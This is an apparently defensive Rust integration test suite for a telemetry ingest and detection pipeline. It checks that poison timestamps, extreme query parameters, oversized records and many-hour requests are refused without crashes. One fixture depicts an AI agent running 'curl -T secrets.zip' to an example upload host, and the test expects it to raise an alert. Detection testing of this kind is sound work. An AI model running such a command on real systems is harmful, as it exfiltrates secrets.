//! What a sender can do to the pipeline: nothing it sends may crash a stage, stall it,
//! lose acknowledged data or hide an attack sent beside it.

use std::time::Duration;

use bytes::Bytes;
use cordon_ingest::LimitsConfig;
use cordon_schemas::FlatEvent;
use cordon_schemas::otlp::events_to_request;
use opentelemetry_proto::tonic::common::v1::any_value::Value as AnyValue;
use prost::Message;

use crate::common::*;

const SECOND: i64 = 1_000_000_000;

fn agent_runs_curl(host: &str, id: &str, time: i64) -> FlatEvent {
    let mut event = FlatEvent::new(time, "process.start", host);
    event
        .set("event.id", id)
        .set("user.name", "erin")
        .set("gen_ai.agent.id", "agent-poison")
        .set("gen_ai.agent.name", "cowork")
        .set("process.executable.name", "curl")
        .set(
            "process.command_line",
            "curl -T secrets.zip https://transfer.example.org/u/",
        );
    event
}

fn flow(host: &str, id: &str, time: i64) -> FlatEvent {
    let mut event = FlatEvent::new(time, "network.flow", host);
    event
        .set("event.id", id)
        .set("user.name", "erin")
        .set("destination.address", "github.com")
        .set_int("destination.port", 443);
    event
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn poison_timestamps_are_refused_at_the_door_and_neither_stop_storage_nor_hide_an_attack() {
    let test = TestServer::start_with(|config| {
        // The defaults a deployment has (the suites widen them for fixed-date events).
        config.limits = LimitsConfig::default();
        config.detections.max_event_age = config.limits.max_event_age;
        config.storage.flush_interval = Duration::from_millis(300);
    })
    .await;
    let now = chrono::Utc::now().timestamp_nanos_opt().unwrap();
    let host = "wks-poison";
    let events = [
        agent_runs_curl(host, "attack", now),
        flow(host, "beyond-i64", now),
        flow(host, "i64-max", now),
        flow(host, "an-hour-ahead", now),
        flow(host, "eight-days-old", now),
        flow(host, "fine", now + SECOND),
    ];
    let mut request = events_to_request(&events);
    let poison: [(&str, u64); 4] = [
        ("beyond-i64", 1 << 63),
        ("i64-max", i64::MAX as u64),
        ("an-hour-ahead", (now + 3600 * SECOND) as u64),
        ("eight-days-old", (now - 8 * 24 * 3600 * SECOND) as u64),
    ];
    for record in request
        .resource_logs
        .iter_mut()
        .flat_map(|resource| &mut resource.scope_logs)
        .flat_map(|scope| &mut scope.log_records)
    {
        let id = record
            .attributes
            .iter()
            .find(|pair| pair.key == "event.id")
            .and_then(|pair| match pair.value.as_ref()?.value.as_ref()? {
                AnyValue::StringValue(text) => Some(text.clone()),
                _ => None,
            })
            .unwrap();
        if let Some((_, time)) = poison.iter().find(|(name, _)| *name == id) {
            record.time_unix_nano = *time;
        }
    }
    let response = grpc_raw(&test.grpc_url(), Bytes::from(request.encode_to_vec()))
        .await
        .expect("the request is taken, its good records kept");
    let partial = response.partial_success.expect("the poison records are reported");
    assert_eq!(partial.rejected_log_records, 4, "{}", partial.error_message);
    for phrase in ["after 2262", "limits.max_event_ahead", "limits.max_event_age"] {
        assert!(
            partial.error_message.contains(phrase),
            "{phrase}: {}",
            partial.error_message
        );
    }
    let metrics = &test.server.metrics;
    assert_eq!(metrics.rejected_count("time_out_of_range"), 1);
    assert_eq!(metrics.rejected_count("time_too_far_ahead"), 2);
    assert_eq!(metrics.rejected_count("time_too_old"), 1);

    // The attack in the same request is detected ...
    eventually(Duration::from_secs(30), "the attack's alert", async || {
        test.alerts()
            .await
            .iter()
            .any(|alert| alert["rule_id"] == "agent-spawned-network-tool" && alert["host_id"] == host)
            .then_some(())
    })
    .await;
    // ... and storage goes on flushing what comes after.
    grpc_raw(
        &test.grpc_url(),
        Bytes::from(events_to_request(&[flow(host, "after", now + 2 * SECOND)]).encode_to_vec()),
    )
    .await
    .unwrap();
    eventually(Duration::from_secs(20), "every good event in Parquet", async || {
        (test.server.ingestor.store().buffered_events() == 0 && metrics.parquet_files_written.get() > 0).then_some(())
    })
    .await;
    assert_eq!(metrics.storage_errors.get(), 0);
    assert_eq!(
        count(
            &test.storage(),
            "SELECT count(*) FROM events WHERE transport <> 'detections'"
        )
        .await,
        3
    );
    let dir = test.stop().await;
    // A restart replays nothing that could stop it.
    let again = TestServer::start_in(dir, |config| config.limits = LimitsConfig::default()).await;
    assert_eq!(
        count(
            &again.storage(),
            "SELECT count(*) FROM events WHERE transport <> 'detections'"
        )
        .await,
        3
    );
    again.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn extreme_query_parameters_get_answers_not_crashes() {
    let server = TestServer::start().await;
    for path in [
        "/api/v1/alerts?since=300years",
        "/api/v1/alerts?offset=18446744073709551615",
        "/api/v1/alerts?since=300years&offset=9223372036854775808",
        "/api/v1/audit?since=300years",
        "/api/v1/timeline?host_id=h&since=300years",
    ] {
        let (status, body) = server.api_get(path, Some(cordon::api::Role::Responder)).await;
        assert_eq!(status, 200, "{path}: {body}");
    }
    let (status, body) = server
        .api_get(
            "/api/v1/alerts?offset=18446744073709551615",
            Some(cordon::api::Role::Analyst),
        )
        .await;
    assert_eq!((status, body["alerts"].as_array().map(Vec::len)), (200, Some(0)));
    server.stop().await;
}

fn text_attribute(key: String, value: String) -> opentelemetry_proto::tonic::common::v1::KeyValue {
    opentelemetry_proto::tonic::common::v1::KeyValue {
        key,
        value: Some(opentelemetry_proto::tonic::common::v1::AnyValue {
            value: Some(AnyValue::StringValue(value)),
        }),
        ..Default::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn crowded_and_oversized_records_are_refused_beside_good_ones() {
    let test = TestServer::start().await;
    let now = chrono::Utc::now().timestamp_nanos_opt().unwrap();
    // One record with 100,000 attributes (took 101 s before), one with a 1 MiB value,
    // one good, in one request.
    let mut request = events_to_request(&[
        flow("wks-crowd", "crowded", now),
        flow("wks-crowd", "oversized", now),
        flow("wks-crowd", "good", now),
    ]);
    let records = &mut request.resource_logs[0].scope_logs[0].log_records;
    records[0]
        .attributes
        .extend((0..100_000).map(|n| text_attribute(format!("custom.a{n}"), "v".into())));
    records[1]
        .attributes
        .push(text_attribute("custom.blob".into(), "x".repeat(1 << 20)));
    let started = std::time::Instant::now();
    let response = grpc_raw(&test.grpc_url(), Bytes::from(request.encode_to_vec()))
        .await
        .unwrap();
    let crowded_took = started.elapsed();
    let partial = response.partial_success.expect("two records refused");
    assert_eq!(partial.rejected_log_records, 2, "{}", partial.error_message);
    assert!(partial.error_message.contains("100"), "{}", partial.error_message);
    assert_eq!(test.server.metrics.rejected_count("too_many_attributes"), 1);
    assert_eq!(test.server.metrics.rejected_count("value_too_large"), 1);

    // 2,000 resource attributes over 2,000 records (took 99 s before): each record is
    // refused once it passes the bound, without the rest being applied.
    let flows: Vec<FlatEvent> = (0..2000).map(|n| flow("wks-crowd", &format!("r{n}"), now)).collect();
    let mut request = events_to_request(&flows);
    for resource in &mut request.resource_logs {
        if let Some(resource) = resource.resource.as_mut() {
            resource
                .attributes
                .extend((0..2000).map(|n| text_attribute(format!("custom.r{n}"), "v".into())));
        }
    }
    let started = std::time::Instant::now();
    let response = grpc_raw(&test.grpc_url(), Bytes::from(request.encode_to_vec()))
        .await
        .unwrap();
    let resource_took = started.elapsed();
    assert_eq!(response.partial_success.unwrap().rejected_log_records, 2000);
    // Printed, not asserted (timings belong in benchmarks): what kept these requests
    // from taking 100 s is that a record past the bounds applies nothing more, which
    // schemas/src/record.rs and otlp_wire.rs check by what was kept, not by the clock.
    eprintln!("crowded request answered in {crowded_took:?}, crowded resource in {resource_took:?}");
    assert_eq!(
        count(
            &test.storage(),
            "SELECT count(*) FROM events WHERE transport <> 'detections'"
        )
        .await,
        1
    );
    test.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_spread_over_thousands_of_hours_is_cut_at_the_hours_bound() {
    // The suites' event-age bound is ten years: 5,000 hours back are all within it.
    let test = TestServer::start().await;
    let now = chrono::Utc::now().timestamp_nanos_opt().unwrap();
    const HOUR: i64 = 3_600_000_000_000;
    let flows: Vec<FlatEvent> = (0..5_000)
        .map(|n| flow("wks-hours", &format!("h{n}"), now - n * HOUR))
        .collect();
    let response = grpc_raw(&test.grpc_url(), Bytes::from(events_to_request(&flows).encode_to_vec()))
        .await
        .unwrap();
    let limit = cordon_schemas::limits::MAX_REQUEST_HOURS;
    let partial = response.partial_success.expect("records past the bound refused");
    assert_eq!(partial.rejected_log_records as usize, 5_000 - limit);
    assert!(
        partial.error_message.contains("distinct hours"),
        "{}",
        partial.error_message
    );
    assert_eq!(
        test.server.metrics.rejected_count("too_many_hours"),
        (5_000 - limit) as u64
    );
    test.server.ingestor.store().flush().await.unwrap();
    let files = test.server.metrics.parquet_files_written.get();
    assert!(files <= limit as u64, "{files} Parquet files for one request");
    test.stop().await;
}
